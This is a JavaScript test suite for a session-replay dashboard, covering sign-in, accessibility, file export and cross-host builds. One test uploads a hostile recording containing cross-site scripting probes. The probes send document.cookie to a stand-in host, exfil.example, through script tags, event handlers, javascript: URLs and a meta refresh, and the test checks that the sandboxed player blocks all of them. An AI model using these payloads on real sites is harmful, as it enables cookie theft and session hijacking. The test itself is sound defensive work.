// The dashboard by itself: signing in, an untrusted recording, another host.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { violations } from './axe.mjs';
import { Api, PASSWORD, Worker, inReplay, launch, root, signIn, staticHost, until } from './support.mjs';

let worker;
let browser;
before(async () => {
  worker = await Worker.start({ ANNOUNCE_SECONDS: '0.1' });
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await worker?.stop();
});

/** Uploads a recording as a hostile client would make it. */
async function upload(nodes, url = worker.url) {
  const start = Date.now();
  const sid = start.toString(16).padStart(12, '0') + 'a'.repeat(26);
  const node = { type: 0, childNodes: [{ type: 2, tagName: 'html', attributes: {}, id: 2, childNodes: [
    { type: 2, tagName: 'head', attributes: {}, childNodes: [], id: 3 },
    { type: 2, tagName: 'body', attributes: {}, id: 4, childNodes: nodes },
  ] }], id: 1 };
  const events = [
    { type: 4, data: { href: 'https://victim.example/', width: 800, height: 600 }, timestamp: start },
    { type: 2, data: { node, initialOffset: { left: 0, top: 0 } }, timestamp: start + 1 },
    { type: 3, data: { source: 2, type: 2, id: 5, x: 10, y: 10 }, timestamp: start + 2_000 },
  ];
  const header = { v: 1, sid, tab: 'b'.repeat(8), window: 'c'.repeat(8), seq: 0, first: 0, n: events.length, sent: start };
  const text = [header, ...events].map((line) => JSON.stringify(line)).join('\n');
  const answer = await fetch(`${url}/i/demo`, { method: 'POST', headers: { origin: url }, body: gzipSync(text) });
  assert.equal(answer.status, 200, await answer.text());
  return sid;
}

test('only the password lets in, and signing in leads to where one wanted to go', async () => {
  const page = await browser.newPage();
  await page.goto(`${worker.url}/dashboard/#/s/demo`);
  await page.getByTestId('login-password').fill('wrong');
  await page.getByTestId('login-submit').click();
  await page.getByRole('alert').waitFor();
  await page.getByTestId('login-password').fill(PASSWORD);
  await page.getByTestId('login-submit').click();
  await page.getByTestId('empty-first-run').waitFor();
  assert.match(await page.getByTestId('empty-first-run').innerText(), /data-site="demo"/);
  await page.reload();
  await page.getByTestId('empty-first-run').waitFor();
  await page.close();
});

for (const colorScheme of ['light', 'dark']) {
  test(`axe finds nothing wrong with the list and the replay (${colorScheme})`, async () => {
    const sid = await upload([{ type: 2, tagName: 'p', attributes: {}, childNodes: [{ type: 3, textContent: 'a plain page', id: 6 }], id: 5 }]);
    const page = await browser.newPage({ colorScheme, bypassCSP: true, reducedMotion: 'reduce' });
    await signIn(page, worker.url);
    await page.locator(`[data-testid=session-row][data-sid="${sid}"]`).waitFor();
    assert.deepEqual(await violations(page), [], 'the list');
    await page.locator(`[data-testid=session-row][data-sid="${sid}"]`).click();
    await until('it replays', () => inReplay(page, () => document.body.innerText.includes('plain page')));
    assert.deepEqual(await violations(page), [], 'the replay');
    await page.close();
  });
}

test('a hostile recording runs nothing and reaches nothing', async () => {
  const probe = 'fetch("https://exfil.example/" + document.cookie);top.document.title="owned";parent.postMessage("owned","*")';
  const sid = await upload([
    { type: 2, tagName: 'p', attributes: {}, childNodes: [{ type: 3, textContent: 'an innocent page', id: 6 }], id: 5 },
    { type: 2, tagName: 'script', attributes: {}, childNodes: [{ type: 3, textContent: probe, id: 8 }], id: 7 },
    { type: 2, tagName: 'img', attributes: { src: 'https://exfil.example/x.png', onerror: probe }, childNodes: [], id: 9 },
    { type: 2, tagName: 'iframe', attributes: { src: `javascript:${probe}`, srcdoc: `<script>${probe}</script>` }, childNodes: [], id: 10 },
    { type: 2, tagName: 'a', attributes: { href: `javascript:${probe}` }, childNodes: [], id: 11 },
    { type: 2, tagName: 'svg', attributes: { onload: probe }, isSVG: true, childNodes: [], id: 12 },
    { type: 2, tagName: 'meta', attributes: { 'http-equiv': 'refresh', content: '0;url=https://exfil.example/' }, childNodes: [], id: 13 },
  ]);
  const page = await browser.newPage();
  const asked = [];
  page.on('request', (request) => asked.push(request.url()));
  await signIn(page, worker.url);
  await page.locator(`[data-testid=session-row][data-sid="${sid}"]`).click();
  await until('it replays', () => inReplay(page, () => document.body.innerText.includes('innocent')));
  const frame = page.frames().find((candidate) => candidate.url().startsWith('data:'));
  assert.equal(await frame.evaluate(() => self.origin), 'null', 'the player has an origin of its own');
  assert.equal(await frame.evaluate(() => { try { return parent.document.title; } catch { return 'refused'; } }), 'refused');
  assert.equal(await frame.evaluate(() => { try { return document.cookie; } catch { return 'refused'; } }), 'refused');
  assert.notEqual(await page.title(), 'owned');
  assert.ok(page.url().startsWith(worker.url), 'the page stays');
  const sent = asked.filter((url) => url.includes('exfil.example') && !url.endsWith('/x.png'));
  assert.deepEqual(sent, [], 'only the passive image was asked for');
  await page.close();
});

test('an exported recording opens from a file, without signing in, and goes nowhere', async () => {
  const sid = await upload([{ type: 2, tagName: 'p', attributes: {}, childNodes: [{ type: 3, textContent: 'kept in a file', id: 6 }], id: 5 }]);
  const api = await Api.signIn(worker.url);
  const exported = Buffer.from(await (await api.get(`sessions/${sid}/events`)).arrayBuffer());
  const context = await browser.newContext();
  const page = await context.newPage();
  const asked = [];
  await page.goto(`${worker.url}/dashboard/#/file`);
  const input = page.getByTestId('file-input');
  await input.waitFor({ state: 'attached' });
  context.on('request', (request) => asked.push(`${request.method()} ${request.url()}`));

  await input.setInputFiles({ name: 'notes.json', mimeType: 'application/json', buffer: Buffer.from('{"not":"a recording"}') });
  assert.match(await page.getByTestId('problem').innerText(), /Line 1/);

  await input.setInputFiles({ name: `sentiero-${sid}.ndjson`, mimeType: 'application/x-ndjson', buffer: exported });
  await until('it replays', () => inReplay(page, () => document.body.innerText.includes('kept in a file')));
  assert.ok(page.url().endsWith(sid), page.url());
  const sent = asked.filter((request) => /\/api\/|\/i\/|^POST|^PUT/.test(request));
  assert.deepEqual(sent, []);

  // What was in memory is gone with the page: it can be chosen again.
  await page.reload();
  await page.getByTestId('file-input').waitFor({ state: 'attached' });
  const drop = await page.evaluateHandle(([name, text]) => {
    const data = new DataTransfer();
    data.items.add(new File([text], name));
    return data;
  }, [`sentiero-${sid}.ndjson`, exported.toString()]);
  await page.getByTestId('file-drop').dispatchEvent('drop', { dataTransfer: drop });
  await until('it replays again', () => inReplay(page, () => document.body.innerText.includes('kept in a file')));
  await context.close();
});

/** Where the dashboard is on the other host: not at its root. */
const BASE = '/team/sentiero';

test('the same build works from another static host, under a path', async () => {
  const site = mkdtempSync(join(tmpdir(), 'sentiero-static-'));
  const host = await staticHost(site);
  const own = await Worker.start({ DASHBOARD_ORIGINS: host.url, ANNOUNCE_SECONDS: '0.1' });
  const page = await browser.newPage();
  const missing = [];
  page.on('response', (answer) => answer.status() === 404 && missing.push(answer.url()));
  const enter = async () => {
    await page.getByTestId('login-password').fill(PASSWORD);
    await page.getByTestId('login-submit').click();
  };
  try {
    execFileSync('cargo', ['xtask', 'build', '--api', own.url, '--out', join(site, BASE)], { cwd: root, stdio: 'pipe' });
    await page.goto(`${host.url}${BASE}/`);
    await enter();
    await page.getByTestId('empty-first-run').waitFor();

    // A link to a moment of a session, a reload, and a token that is worth nothing any more.
    const sid = await upload([{ type: 2, tagName: 'p', attributes: {}, childNodes: [{ type: 3, textContent: 'seen from elsewhere', id: 6 }], id: 5 }], own.url);
    const replays = () => until('it replays', () => inReplay(page, () => document.body.innerText.includes('elsewhere')));
    await page.goto(`${host.url}${BASE}/#/s/demo/${sid}?t=1000`);
    await replays();
    await page.reload();
    await replays();
    await page.evaluate(() => sessionStorage.setItem('sentiero-token', 'expired'));
    await page.reload();
    await enter();
    await replays();
    assert.ok(page.url().startsWith(`${host.url}${BASE}/#/s/demo/${sid}`), page.url());
    assert.deepEqual(missing, []);
  } finally {
    await page.close();
    host.close();
    await own.stop();
    rmSync(site, { recursive: true, force: true });
  }
});

test('a worker that does not know the other host says nothing, and the page says what to configure', async () => {
  const site = mkdtempSync(join(tmpdir(), 'sentiero-static-'));
  const host = await staticHost(site);
  const page = await browser.newPage();
  try {
    execFileSync('cargo', ['xtask', 'build', '--api', worker.url, '--out', site], { cwd: root, stdio: 'pipe' });
    await page.goto(host.url);
    await page.getByTestId('login-password').fill(PASSWORD);
    await page.getByTestId('login-submit').click();
    const said = page.getByRole('alert').filter({ hasText: 'DASHBOARD_ORIGINS' });
    await said.waitFor();
    assert.ok((await said.innerText()).includes(host.url), await said.innerText());
  } finally {
    await page.close();
    host.close();
    rmSync(site, { recursive: true, force: true });
  }
});
